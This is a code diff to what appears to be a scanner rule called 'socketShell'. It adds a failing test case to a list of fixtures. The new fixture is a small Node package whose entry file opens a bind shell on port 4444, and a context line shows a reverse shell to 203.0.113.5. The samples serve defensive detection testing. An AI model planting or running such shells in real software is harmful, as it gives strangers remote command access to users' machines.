@@ -36,6 +36,14 @@ export const socketShell: Rule = {
               "const c = require('net').connect(4444, '203.0.113.5', () => {\n  c.pipe(sh.stdin)\n  sh.stdout.pipe(c)\n})\n",
           },
         },
+        {
+          title: 'a port that gives whoever connects a shell',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "require('net').createServer(socket => {\n  const sh = require('child_process').spawn('bash', ['-i'])\n  socket.pipe(sh.stdin)\n  sh.stdout.pipe(socket)\n}).listen(4444)\n",
+          },
+        },
       ],
       passes: [
         {
